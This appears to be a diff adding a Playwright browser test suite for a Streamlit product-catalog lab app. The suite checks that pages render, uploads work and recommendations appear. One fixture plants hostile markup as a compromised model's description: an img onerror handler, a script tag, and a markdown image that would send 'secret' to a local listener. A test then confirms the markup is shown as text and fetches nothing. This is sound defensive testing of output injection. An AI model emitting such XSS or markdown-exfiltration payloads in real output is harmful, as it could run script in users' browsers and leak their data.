@@ -1,0 +1,182 @@
+"""Real browser: Debian's chromium driven by Playwright against `streamlit run app.py` on a sample workspace."""
+
+from __future__ import annotations
+
+import http.server
+import os
+import shutil
+import socket
+import subprocess
+import sys
+import threading
+import time
+import urllib.request
+from pathlib import Path
+
+import pytest
+
+from core.encoders import HashEncoder
+from core.lab import open_lab
+from tests.fakes import png_bytes
+
+CHROMIUM = "/usr/bin/chromium"
+ROOT = Path(__file__).resolve().parents[2]
+ARTIFACTS = ROOT / "tests" / "artifacts"
+PAGES = [("Catalog", "Catalog"), ("Search", "Search"), ("Prompt Lab", "Prompt Lab"),
+         ("Description QA", "Description QA"), ("Semantic Map", "Semantic map"),
+         ("Shopper Simulator", "Shopper simulator"), ("Cold-start Preview", "Cold-start preview"),
+         ("Evaluation", "Evaluation")]
+
+pytestmark = pytest.mark.skipif(not Path(CHROMIUM).exists(),
+                                reason="Debian's chromium is not installed (make test installs it when run as root)")
+
+
+def free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+class LeakListener:
+    """Counts any request to a loopback port that model output tries to make the browser fetch."""
+
+    def __init__(self) -> None:
+        self.hits: list[str] = []
+        hits = self.hits
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:  # noqa: N802
+                hits.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            def log_message(self, *args: object) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.server.server_address[1]
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+
+def plant_hostile_description(workspace: Path, port: int) -> str:
+    """Replace the first QA row's model text with hostile markup, as a compromised model might return."""
+    from core import qa
+
+    lab = open_lab(workspace, encoder=HashEncoder())
+    first = qa.qa_table(lab).iloc[0]
+    stored = lab.store.descriptions()
+    row = stored[stored["key"] == first["key"]].iloc[0].to_dict()
+    text = (f"<img src=x onerror=alert(1)> <script>alert('xss')</script> "
+            f"![x](http://127.0.0.1:{port}/leak?d=secret) plain words")
+    lab.store.upsert_descriptions([lab.store.row_to_description(row).model_copy(update={"text": text})])
+    return text
+
+
+@pytest.fixture(scope="module")
+def served(sample_workspace, tmp_path_factory):
+    """`streamlit run app.py` on a copy of the sample workspace, on a free loopback port."""
+    ws = tmp_path_factory.mktemp("browser") / "ws"
+    shutil.copytree(sample_workspace, ws)
+    listener = LeakListener()
+    hostile = plant_hostile_description(ws, listener.port)
+    port = free_port()
+    env = {**os.environ, "VITRINE_WORKSPACE": str(ws), "HF_HUB_OFFLINE": "1", "TRANSFORMERS_OFFLINE": "1"}
+    for var in ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "OPENAI_BASE_URL"):
+        env.pop(var, None)
+    proc = subprocess.Popen([sys.executable, "-m", "streamlit", "run", "app.py", "--server.port", str(port),
+                             "--server.address", "127.0.0.1", "--server.headless", "true"],
+                            cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
+    url = f"http://127.0.0.1:{port}"
+    deadline = time.time() + 120
+    while time.time() < deadline:
+        try:
+            if urllib.request.urlopen(f"{url}/_stcore/health", timeout=2).status == 200:
+                break
+        except OSError:
+            time.sleep(0.5)
+    else:
+        proc.kill()
+        pytest.fail(f"streamlit did not start: {proc.stdout.read()[-3000:]}")
+    yield {"url": url, "listener": listener, "hostile": hostile, "workspace": ws}
+    proc.terminate()
+    proc.wait(timeout=20)
+    listener.server.shutdown()
+
+
+@pytest.fixture(scope="module")
+def page(served):
+    from playwright.sync_api import sync_playwright
+
+    ARTIFACTS.mkdir(parents=True, exist_ok=True)
+    with sync_playwright() as pw:
+        browser = pw.chromium.launch(executable_path=CHROMIUM, headless=True, args=[
+            "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-sync",
+            "--disable-background-networking", "--disable-component-update"])
+        pg = browser.new_page(viewport={"width": 1400, "height": 1000})
+        dialogs: list[str] = []
+        pg.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+        pg.dialogs = dialogs
+        pg.set_default_timeout(90_000)
+        pg.goto(served["url"])
+        pg.get_by_role("heading", name="Vitrine — merchandising lab").wait_for()
+        yield pg
+        browser.close()
+
+
+def open_nav(page, link: str, heading: str) -> None:
+    page.get_by_test_id("stSidebarNav").get_by_text(link, exact=True).click()
+    page.get_by_role("heading", name=heading).first.wait_for()
+    page.wait_for_load_state("networkidle")
+
+
+def assert_no_exception(page, name: str) -> None:
+    page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)
+    assert page.get_by_test_id("stException").count() == 0, f"{name} shows an exception"
+
+
+def test_home_shows_offline_notice(page):
+    page.get_by_text("not an LVLM").first.wait_for()
+    assert_no_exception(page, "home")
+
+
+@pytest.mark.parametrize("link, heading", PAGES)
+def test_every_page_renders(page, link, heading):
+    open_nav(page, link, heading)
+    assert_no_exception(page, link.lower().replace(" ", "_"))
+
+
+def test_upload_an_image_on_catalog(page, served, tmp_path):
+    image = tmp_path / "BROWSER-1.png"
+    image.write_bytes(png_bytes("green", size=(96, 96)))
+    open_nav(page, "Catalog", "Catalog")
+    page.get_by_text("Add images", exact=True).click()
+    page.locator("input[type=file]").first.set_input_files(str(image))
+    page.get_by_role("button", name="Ingest").click()
+    page.get_by_text("Ingested: 1 accepted").first.wait_for()
+    accepted = page.get_by_test_id("stMetric").filter(has_text="Accepted")
+    assert accepted.get_by_test_id("stMetricValue").inner_text() == "1"
+    assert_no_exception(page, "catalog_uploaded")
+    assert "BROWSER-1" in set(open_lab(served["workspace"], encoder=HashEncoder()).store.items()["sku"])
+
+
+def test_shopper_simulation_shows_recommendations(page):
+    open_nav(page, "Shopper Simulator", "Shopper simulator")
+    page.get_by_text("Sample shopper", exact=True).click()
+    page.get_by_role("heading", name="Recommendations").wait_for()
+    page.wait_for_load_state("networkidle")
+    captions = page.get_by_test_id("stImageCaption").all_inner_texts()
+    scores = [float(c.split("·")[-1]) for c in captions if c.count("·") == 1 and "." in c.split("·")[-1]]
+    assert len(scores) >= 10
+    assert_no_exception(page, "shopper_simulated")
+
+
+def test_hostile_model_output_is_shown_literally_and_fetches_nothing(page, served):
+    open_nav(page, "Description QA", "Description QA")
+    page.get_by_test_id("stText").filter(has_text="plain words").first.wait_for()
+    shown = page.get_by_test_id("stText").all_inner_texts()
+    assert any(served["hostile"] in t for t in shown)
+    time.sleep(1.0)
+    assert page.dialogs == []
+    assert served["listener"].hits == []
+    assert page.locator("img[src='x']").count() == 0
+    assert_no_exception(page, "qa_hostile")
